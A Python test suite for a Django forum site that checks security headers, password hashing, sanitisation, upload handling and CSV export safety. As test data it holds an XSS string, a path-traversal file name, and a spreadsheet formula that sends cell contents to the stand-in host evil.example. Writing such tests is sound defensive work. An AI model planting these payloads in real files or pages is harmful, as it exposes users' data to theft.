"""Security baseline: headers on every response and a clean deploy check under production settings."""

import os
import re
import secrets
import subprocess
import sys

import pytest

pytestmark = pytest.mark.django_db


def test_security_headers_on_public_pages(client):
    response = client.get("/en/forums/")
    csp = response["Content-Security-Policy"]
    assert "default-src 'self'" in csp and "script-src 'self'" in csp and "'unsafe-inline'" not in csp
    assert "frame-ancestors 'none'" in csp
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Referrer-Policy"] == "same-origin"
    assert response["X-Frame-Options"] == "DENY"
    assert "camera=()" in response["Permissions-Policy"]
    assert response["Cross-Origin-Opener-Policy"] == "same-origin"


def test_passwords_are_hashed_with_argon2(django_user_model, settings):
    from django.conf import settings as project

    settings.PASSWORD_HASHERS = [h for h in project.PASSWORD_HASHERS if "Argon2" in h]
    user = django_user_model.objects.create_user("amina@example.org", password="a long enough secret 42")
    assert user.password.startswith("argon2")


def test_user_markdown_is_sanitised():
    from kurultai.core.text import render_markdown

    html = render_markdown("Hello <script>alert(1)</script> [x](javascript:alert(1)) **bold** <img src=x onerror=y>")
    assert "<script" not in html and "javascript:" not in html and "onerror" not in html
    assert "<strong>bold</strong>" in html


def test_deploy_check_is_clean_with_production_settings(tmp_path):
    env = {
        **os.environ,
        "KURULTAI_SECRET_KEY": secrets.token_urlsafe(60),
        "KURULTAI_HTTPS": "true",
        "KURULTAI_DEBUG": "false",
        "KURULTAI_ALLOWED_HOSTS": "kurultai.example.org",
        "KURULTAI_VAR_DIR": str(tmp_path),
    }
    env.pop("DATABASE_URL", None)
    env.pop("DJANGO_ALLOW_ASYNC_UNSAFE", None)  # set by the browser tests in this process
    result = subprocess.run(
        [sys.executable, "-m", "kurultai", "check", "--deploy", "--fail-level", "WARNING"],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert "no issues" in result.stdout


def test_https_settings_redirect_and_mark_cookies_secure(tmp_path):
    code = (
        "from django.conf import settings as s;"
        "print(s.SECURE_SSL_REDIRECT, s.SESSION_COOKIE_SECURE, s.CSRF_COOKIE_SECURE, s.SECURE_HSTS_SECONDS > 0)"
    )
    env = {
        **os.environ,
        "KURULTAI_HTTPS": "1",
        "KURULTAI_VAR_DIR": str(tmp_path),
        "DJANGO_SETTINGS_MODULE": "kurultai.settings",
    }
    result = subprocess.run(
        [sys.executable, "-c", "import django; django.setup();" + code],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    assert result.stdout.split() == ["True", "True", "True", "True"]


@pytest.mark.parametrize("path", ["/admin/accounts/user/", "/admin/accounts/user/add/", "/admin/"])
def test_staff_without_a_second_factor_cannot_use_the_admin(client, path):
    from tests.factories import UserFactory

    admin = UserFactory(role="admin")
    admin.authenticator_set.all().delete()
    client.force_login(admin)
    response = client.get(path)
    assert response.status_code == 302 and "/accounts/2fa/totp/activate/" in response["Location"]


def test_pages_that_merely_contain_accounts_in_their_path_are_not_exempt(client):
    from kurultai.accounts.middleware import is_exempt

    assert is_exempt("/en/accounts/login/") and is_exempt("/en/accounts/2fa/totp/activate/")
    assert is_exempt("/en/account/consent/") and is_exempt("/en/legal/terms/")
    assert not is_exempt("/admin/accounts/user/") and not is_exempt("/en/forums/?next=/accounts/")
    assert not is_exempt("/en/account/") and not is_exempt("/en/account/data/")


def test_the_page_cache_keeps_pages_of_different_hosts_apart(client, settings):
    settings.ALLOWED_HOSTS = ["kurultai.example.org", "evil.example"]
    first = client.get("/en/forums/", HTTP_HOST="kurultai.example.org")
    again = client.get("/en/forums/", HTTP_HOST="kurultai.example.org")
    other = client.get("/en/forums/", HTTP_HOST="evil.example")
    assert (first["X-Page-Cache"], again["X-Page-Cache"], other["X-Page-Cache"]) == ("miss", "hit", "miss")


FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Details")'


def test_csv_cells_that_spreadsheets_would_run_are_neutralised():
    import csv
    import io

    from kurultai.core.csvsafe import SafeDictWriter, safe_cell

    assert [safe_cell(v) for v in ("=1+1", "+7", "-2", "@SUM(A1)", "\tx", "\rx", "plain", 42, -3)] == [
        "'=1+1", "'+7", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "plain", 42, -3,
    ]  # fmt: skip
    out = io.StringIO()
    writer = SafeDictWriter(out, fieldnames=["text"])
    writer.writerows([{"text": FORMULA}])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + FORMULA]


def test_open_data_history_csv_does_not_carry_formulas(client):
    import csv
    import io

    from kurultai.followup.services import post_update
    from tests.factories import RecommendationFactory, UserFactory

    recommendation = RecommendationFactory()
    post_update(UserFactory(role="editor"), recommendation, status="in_progress", text=FORMULA, reporter="-x")
    text = client.get("/en/follow-up/recommendations.history.csv").content.decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_personal_data_csv_does_not_carry_formulas(client):
    import io
    import zipfile

    from tests.factories import UserFactory

    user = UserFactory(display_name=FORMULA)
    client.force_login(user)
    archive = zipfile.ZipFile(io.BytesIO(client.post("/en/account/data/").content))
    account_csv = next(archive.read(n).decode("utf-8-sig") for n in archive.namelist() if n.startswith("account"))
    assert "'" + FORMULA.replace('"', '""') in account_csv


PDF = b"%PDF-1.4\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n"


def _evidence_upload(name: str, *, published: bool = True, settings=None):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from kurultai.followup.models import Evidence
    from kurultai.followup.services import post_update
    from tests.factories import ForumFactory, RecommendationFactory, SessionFactory, UserFactory

    forum = ForumFactory(is_published=published)
    recommendation = RecommendationFactory(session=SessionFactory(forum=forum))
    upload = SimpleUploadedFile(name, PDF, content_type="text/html")
    update = post_update(
        UserFactory(role="editor"), recommendation, status="in_progress", text="Progress.", reporter="x",
        evidence_file=upload,
    )  # fmt: skip
    return forum, Evidence.objects.get(update=update)


def test_evidence_of_an_unpublished_forum_is_not_served(client, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    forum, evidence = _evidence_upload("report.pdf", published=False)
    assert client.get(f"/en/evidence/{evidence.token}/").status_code == 404
    forum.is_published = True
    forum.save()
    response = client.get(f"/en/evidence/{evidence.token}/")
    assert response.status_code == 200 and b"".join(response.streaming_content).startswith(b"%PDF")


def test_evidence_files_are_not_found_by_sequential_id(client, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    _forum, evidence = _evidence_upload("report.pdf")
    assert client.get(f"/en/evidence/{evidence.pk}/").status_code == 404
    assert client.get(f"/en/evidence/{evidence.token}/").status_code == 200


@pytest.mark.parametrize("name", ["x.html", "x.svg", "../../x.php.pdf", "report.pdf"])
def test_uploaded_files_are_stored_under_generated_names_with_the_checked_type(settings, tmp_path, name):
    settings.MEDIA_ROOT = tmp_path
    _forum, evidence = _evidence_upload(name)
    stored = evidence.file.name.rsplit("/", 1)[-1]
    assert evidence.file.name.startswith("evidence/") and stored.endswith(".pdf")
    assert re.fullmatch(r"[0-9a-f]{32}\.pdf", stored)
    assert [p.suffix for p in tmp_path.rglob("*") if p.is_file()] == [".pdf"]


def test_existing_evidence_gets_a_token_and_a_generated_name(settings, tmp_path):
    import importlib

    from django.apps import apps
    from django.db import connection

    from kurultai.followup.models import Evidence

    settings.MEDIA_ROOT = tmp_path
    _forum, evidence = _evidence_upload("report.pdf")
    (tmp_path / "evidence" / "2024").mkdir(parents=True)
    (tmp_path / "evidence" / "2024" / "x.html").write_bytes(PDF)
    Evidence.objects.filter(pk=evidence.pk).update(file="evidence/2024/x.html")
    migration = importlib.import_module("kurultai.followup.migrations.0005_evidence_files_by_token")

    class Editor:
        pass

    editor = Editor()
    editor.connection = connection
    migration.rename_files(apps, editor)
    evidence.refresh_from_db()
    assert evidence.file.name.endswith(".pdf") and "x.html" not in evidence.file.name
    assert not (tmp_path / "evidence" / "2024" / "x.html").exists()
    assert evidence.file.read() == PDF


def _proposal(description: str, name: str = "Aral Sea Friends") -> dict:
    from kurultai.core.models import Country

    return {
        "name_en": name,
        "description_en": description,
        "type": "cso",
        "country": Country.objects.get(code="UZ").pk,
        "message": "I am its director.",
    }


@pytest.mark.parametrize(
    ("description", "name", "error"),
    [
        ("Water. " * 600_000, "Aral Sea Friends", "at most 50000 characters"),
        ("Water.\x00", "Aral Sea Friends", "Null characters are not allowed"),
        ("Water.\x07", "Aral Sea Friends", "invisible control characters"),
        ("Water.", "A" * 301, "at most 300 characters"),
    ],
)
def test_over_long_text_and_nul_bytes_are_refused_with_a_form_error(client, description, name, error):
    from kurultai.organisations.models import Organisation
    from tests.factories import UserFactory

    client.force_login(UserFactory())
    before = Organisation.objects.count()
    response = client.post("/en/organisations/propose/", _proposal(description, name))
    assert response.status_code == 200
    assert error in response.content.decode()
    assert Organisation.objects.count() == before


def test_evidence_with_an_over_long_file_name_is_refused_with_a_form_error(client, settings, tmp_path):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from kurultai.followup.models import ProgressUpdate
    from tests.factories import RecommendationFactory, UserFactory

    settings.MEDIA_ROOT = tmp_path
    recommendation = RecommendationFactory()
    client.force_login(UserFactory(role="editor"))
    upload = SimpleUploadedFile("r" * 230 + ".pdf", PDF, content_type="application/pdf")
    response = client.post(
        f"/en/recommendations/{recommendation.pk}/update/",
        {
            "status": "in_progress",
            "text": "Done.",
            "reported_on": "2024-06-01",
            "reporter": "x",
            "evidence_file": upload,
        },
    )
    assert response.status_code == 200
    assert "The file name may be at most 200 characters long" in response.content.decode()
    assert not ProgressUpdate.objects.filter(recommendation=recommendation).exists()
